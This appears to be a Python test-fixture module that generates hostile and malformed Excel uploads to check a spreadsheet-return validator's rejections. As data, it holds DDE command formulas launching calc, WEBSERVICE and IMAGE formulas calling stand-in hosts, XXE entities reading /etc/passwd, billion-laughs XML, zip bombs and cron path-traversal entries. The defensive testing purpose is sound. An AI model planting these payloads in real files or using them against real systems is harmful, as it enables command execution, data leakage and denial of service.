"""Hostile and careless files, built by code from a good return (bad-inputs F01–F16). Nothing here is stored."""

from __future__ import annotations

import re
import struct
import warnings
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

from tests.returns.filled import changed, repacked

LIBREOFFICE = Path(__file__).parent / "fixtures" / "libreoffice.xlsx"
SHEET = "xl/worksheets/sheet2.xml"  # 单位情况
STRINGS = "xl/sharedStrings.xml"
_USUAL = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_STRICT = b"http://purl.oclc.org/ooxml/spreadsheetml/main"
BOMB = b"\0" * (1 << 20)


def good() -> bytes:
    return changed({})


def _with(name: str, content: bytes = b"x") -> bytes:
    packed = BytesIO(good())
    with ZipFile(packed, "a", ZIP_DEFLATED) as package, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # a name that stands twice is what is meant
        package.writestr(name, content)
    return packed.getvalue()


def _edited(part: str, old: bytes, new: bytes) -> bytes:
    return repacked(good(), {part: lambda text: text.replace(old, new, 1)})


def _cells(xml: bytes) -> bytes:
    """The unit sheet with more cells at its end."""
    return _edited(SHEET, b"</sheetData>", xml + b"</sheetData>")


def _cell_d6(xml: bytes) -> bytes:
    """The return with another cell for its employees (D6 of 单位情况)."""
    return repacked(good(), {SHEET: lambda text: re.sub(rb'<c r="D6"[^>]*>.*?</c>', lambda _: xml, text)})


def _related(kind: str, target: str, mode: str = "Internal") -> bytes:
    """One more relationship of the workbook, of this kind."""
    one = (
        f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
        f' Target="{target}" TargetMode="{mode}"/></Relationships>'
    )
    return _edited("xl/_rels/workbook.xml.rels", b"</Relationships>", one.encode())


def _strings(part: Callable[[bytes], bytes]) -> bytes:
    """LibreOffice's return (its texts are shared strings), those changed."""
    return repacked(LIBREOFFICE.read_bytes(), {"xl/sharedStrings.xml": part})


def _flipped() -> bytes:
    """A byte of a deflated part is not what it was."""
    content = bytearray(good())
    with ZipFile(BytesIO(bytes(content))) as package:
        part = package.getinfo(SHEET)
    name, extra = struct.unpack("<HH", content[part.header_offset + 26 : part.header_offset + 30])
    content[part.header_offset + 30 + name + extra + part.compress_size // 2] ^= 0xFF
    return bytes(content)


def _unpacks_to_a_gigabyte() -> bytes:
    packed = BytesIO(good())
    with ZipFile(packed, "a", ZIP_DEFLATED) as package, package.open("xl/media/image1.png", "w") as part:
        for _ in range(1024):
            part.write(BOMB)
    return packed.getvalue()


def _forged_size() -> bytes:
    """The directory says that a part of 200 MB unpacks to ten bytes."""
    packed = BytesIO(good())
    with ZipFile(packed, "a", ZIP_DEFLATED) as package, package.open("xl/media/image1.png", "w") as part:
        for _ in range(200):
            part.write(BOMB)
    content = packed.getvalue()
    return content.replace(struct.pack("<I", 200 << 20), struct.pack("<I", 10))


def _overlapping() -> bytes:
    """Two names in the directory for the same bytes."""
    content = bytearray(_with("xl/media/a.bin", b"a" * 500))
    with ZipFile(BytesIO(bytes(content))) as package:
        first, last = package.getinfo(SHEET).header_offset, package.getinfo("xl/media/a.bin").header_offset
    start = content.rindex(b"PK\x01\x02")
    assert struct.unpack("<I", content[start + 42 : start + 46]) == (last,)
    content[start + 42 : start + 46] = struct.pack("<I", first)
    return bytes(content)


def _declaring(part: str, doctype: bytes, of: bytes | None = None) -> bytes:
    """A part with a document type before its first element."""
    head = b'<?xml version="1.0"?><!DOCTYPE x [' + doctype + b"]>"
    return repacked(of or good(), {part: lambda text: head + re.sub(rb"^<\?xml[^>]*\?>", b"", text)})


def _laughs(part: str, of: bytes | None = None) -> bytes:
    more = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    return _declaring(part, b'<!ENTITY l0 "lol">' + more, of)


def _outside_entity(part: str, of: bytes | None = None) -> bytes:
    return _declaring(part, b'<!ENTITY f SYSTEM "file:///etc/passwd">', of)


def _cell(address: str) -> bytes:
    return b'<row><c r="%s"><v>1</v></c></row>' % address.encode()


def _wide() -> bytes:
    row = b"<c><v>1</v></c>" * 199
    return b"".join(b'<row r="%d">%s</row>' % (n, row) for n in range(30, 2100))


def _ods() -> bytes:
    packed = BytesIO()
    with ZipFile(packed, "w") as package:
        package.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        package.writestr("content.xml", "<x/>")
    return packed.getvalue()


def _many_parts() -> bytes:
    packed = BytesIO(good())
    with ZipFile(packed, "a") as package:
        for n in range(2_100):
            package.writestr(f"xl/media/{n}.png", b"")
    return packed.getvalue()


def _huge_cell() -> bytes:
    text = b'<row r="30"><c r="A30" t="inlineStr"><is><t>' + b"a" * (140 << 20) + b"</t></is></c></row>"
    return _cells(text)


def _strict() -> bytes:
    return repacked(good(), {"xl/workbook.xml": lambda text: text.replace(_USUAL, _STRICT)})


# name → (content, file name, key of messages.yml files, cell)
FILES: dict[str, tuple[Callable[[], bytes], str, str, str]] = {
    "F01 empty": (lambda: b"", "a.xlsx", "empty", ""),
    "F02 cut": (lambda: good()[: len(good()) * 2 // 3], "a.xlsx", "truncated", ""),
    "F03 flipped": (_flipped, "a.xlsx", "corrupt", ""),
    "F04 csv": ("指标,数值\n".encode, "a.xlsx", "not_a_workbook", ""),
    "F04 html": (lambda: b"<html><table></table></html>", "a.xls", "not_a_workbook", ""),
    "F04 pdf": (lambda: b"%PDF-1.7 ...", "a.xlsx", "not_a_workbook", ""),
    "F05 xlsx named csv": (good, "a.csv", "wrong_name", ""),
    "F06 password": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "a.xlsx", "password", ""),
    "F07 ods": (_ods, "a.xlsx", "other_format", ""),
    "F07 xlsb": (lambda: _with("xl/workbook.bin"), "a.xlsx", "other_format", ""),
    "F07 xls": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "a.xls", "password", ""),
    "F07 et of WPS": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "a.et", "password", ""),
    "F08 macros inside": (lambda: _with("xl/vbaProject.bin"), "a.xlsx", "macros", ""),
    "F08 xlsm": (good, "a.xlsm", "macros", ""),
    "F09 external link": (
        lambda: _with("xl/externalLinks/externalLink1.xml", b"<x/>"),
        "a.xlsx",
        "active_content",
        "",
    ),
    "F09 embedded object": (lambda: _with("xl/embeddings/oleObject1.bin"), "a.xlsx", "active_content", ""),
    "F08 macros elsewhere": (lambda: _related("vbaProject", "odd/x.bin"), "a.xlsx", "macros", ""),
    "F08 macros by type": (
        lambda: _edited("[Content_Types].xml", b".sheet.main+xml", b".sheet.macroEnabled.main+xml"),
        "a.xlsx",
        "macros",
        "",
    ),
    "F09 object elsewhere": (lambda: _related("oleObject", "odd/x.bin"), "a.xlsx", "active_content", ""),
    "F09 link elsewhere": (lambda: _related("externalLink", "odd/x.xml"), "a.xlsx", "active_content", ""),
    "F09 picture from afar": (
        lambda: _related("image", "https://tracker.example/x.png", "External"),
        "a.xlsx",
        "active_content",
        "",
    ),
    "F09 DDE": (
        lambda: _cell_d6(b"<c r=\"D6\"><f>1+cmd|'/C calc'!A0</f><v>2650</v></c>"),
        "a.xlsx",
        "active_content",
        "D6",
    ),
    "F09 a formula that asks the web": (
        lambda: _cell_d6(b'<c r="D6"><f>_xlfn.WEBSERVICE("https://x.example/"&amp;A1)</f><v>2650</v></c>'),
        "a.xlsx",
        "active_content",
        "D6",
    ),
    "F09 a program in quotes": (
        lambda: _cell_d6(b"<c r=\"D6\"><f>'cmd'|'/C calc'!A0</f><v>2650</v></c>"),
        "a.xlsx",
        "active_content",
        "D6",
    ),
    "F09 behind the quote in a sheet's name": (
        lambda: _cell_d6(
            b'<c r="D6"><f>\'"\'!A1&amp;WEBSERVICE(&quot;https://x.example&quot;)</f><v>2650</v></c>'
        ),
        "a.xlsx",
        "active_content",
        "D6",
    ),
    "F09 a picture from the web": (
        lambda: _cell_d6(b'<c r="D6"><f>_xlfn.IMAGE("https://x.example/"&amp;A1)</f><v>2650</v></c>'),
        "a.xlsx",
        "active_content",
        "D6",
    ),
    "F09 behind what anybody reads": (
        lambda: _cell_d6(b'<c r="D6"><f>' + b"1+" * 4100 + b'WEBSERVICE("x")</f><v>2650</v></c>'),
        "a.xlsx",
        "active_content",
        "D6",
    ),
    "F09 behind a name": (
        lambda: _edited(
            "xl/workbook.xml",
            b"<definedNames>",
            b'<definedNames><definedName name="x">WEBSERVICE("https://x.example")</definedName>',
        ),
        "a.xlsx",
        "active_content",
        "",
    ),
    "F10 a gigabyte": (_unpacks_to_a_gigabyte, "a.xlsx", "zip_bomb", ""),
    "F10 forged size": (_forged_size, "a.xlsx", "corrupt", ""),
    "F10 overlapping": (_overlapping, "a.xlsx", "zip_bomb", ""),
    "F10 many parts": (_many_parts, "a.xlsx", "zip_bomb", ""),
    "F11 a sheet twice": (lambda: _with(SHEET, b"<worksheet/>"), "a.xlsx", "bad_package", ""),
    "F11 a path upwards": (lambda: _with("../../etc/cron.d/x"), "a.xlsx", "bad_package", ""),
    "F11 a path from the root": (lambda: _with("/etc/cron.d/x"), "a.xlsx", "bad_package", ""),
    "F11 two sheets of one part": (
        lambda: repacked(
            good(), {"xl/_rels/workbook.xml.rels": lambda text: text.replace(b"sheet4.xml", b"sheet3.xml")}
        ),
        "a.xlsx",
        "bad_package",
        "",
    ),
    "F12 laughs in a sheet": (lambda: _laughs(SHEET), "a.xlsx", "xml_entities", ""),
    "F12 laughs in the types": (lambda: _laughs("[Content_Types].xml"), "a.xlsx", "xml_entities", ""),
    "F12 laughs in the strings": (
        lambda: _laughs(STRINGS, LIBREOFFICE.read_bytes()),
        "a.xlsx",
        "xml_entities",
        "",
    ),
    "F12 quadratic": (
        lambda: _declaring(SHEET, b'<!ENTITY a "' + b"a" * 50_000 + b'">'),
        "a.xlsx",
        "xml_entities",
        "",
    ),
    "F12 outside entity": (lambda: _outside_entity("xl/workbook.xml"), "a.xlsx", "xml_entities", ""),
    "F12 outside entity in a sheet": (lambda: _outside_entity(SHEET), "a.xlsx", "xml_entities", ""),
    "F12 outside entity in the strings": (
        lambda: _outside_entity(STRINGS, LIBREOFFICE.read_bytes()),
        "a.xlsx",
        "xml_entities",
        "",
    ),
    "F13 a huge cell": (_huge_cell, "a.xlsx", "zip_bomb", ""),
    "F13 many rows": (
        lambda: _cells(b"".join(b'<row r="%d"/>' % n for n in range(30, 30_000))),
        "a.xlsx",
        "outside_form",
        "",
    ),
    "F13 rows without end": (
        lambda: _cells(b"<row/>" * 20_000_000),
        "a.xlsx",
        "outside_form",
        "",
    ),
    "F13 many columns": (
        lambda: _cells(b"".join(b'<row r="%d">%s</row>' % (n, b"<c/>" * 16_384) for n in range(30, 130))),
        "a.xlsx",
        "outside_form",
        "GS30",
    ),
    "F13 huge strings": (
        lambda: _strings(
            lambda text: text.replace(
                b"</sst>", (b"<si><t>" + b"a" * 30_000 + b"</t></si>") * 5_000 + b"</sst>"
            )
        ),
        "a.xlsx",
        "zip_bomb",
        "",
    ),
    "F13 strings without end": (
        lambda: _strings(lambda text: text.replace(b"</sst>", b"<si/>" * 25_000_000 + b"</sst>")),
        "a.xlsx",
        "reader_failed",
        "",
    ),
    "F13 many cells": (lambda: _cells(_wide()), "a.xlsx", "too_large", ""),
    "F14 last cell": (lambda: _cells(_cell("XFD1048576")), "a.xlsx", "outside_form", "XFD1048576"),
    "F14 no such cell": (lambda: _cells(_cell("ZZZZ99999999")), "a.xlsx", "outside_form", "ZZZZ99999999"),
    "F16 strict": (_strict, "a.xlsx", "other_format", ""),
    "F14 last cell in a foreign table": (
        lambda: _edited(
            SHEET,
            b"<sheetData>",
            b'<e:sheetData xmlns:e="urn:e">' + _cell("XFD1048576") + b"</e:sheetData><sheetData>",
        ),
        "a.xlsx",
        "corrupt",
        "",
    ),
    "F16 strict sheet": (
        lambda: repacked(good(), {SHEET: lambda text: text.replace(_USUAL, _STRICT)}),
        "a.xlsx",
        "other_format",
        "",
    ),
    "F16 sheet part gone": (lambda: repacked(good(), {}, without=(SHEET,)), "a.xlsx", "bad_package", ""),
    "F16 string out of range": (
        lambda: _cells(b'<row r="13"><c r="D13" t="s"><v>99999</v></c></row>'),
        "a.xlsx",
        "corrupt",
        "",
    ),
}
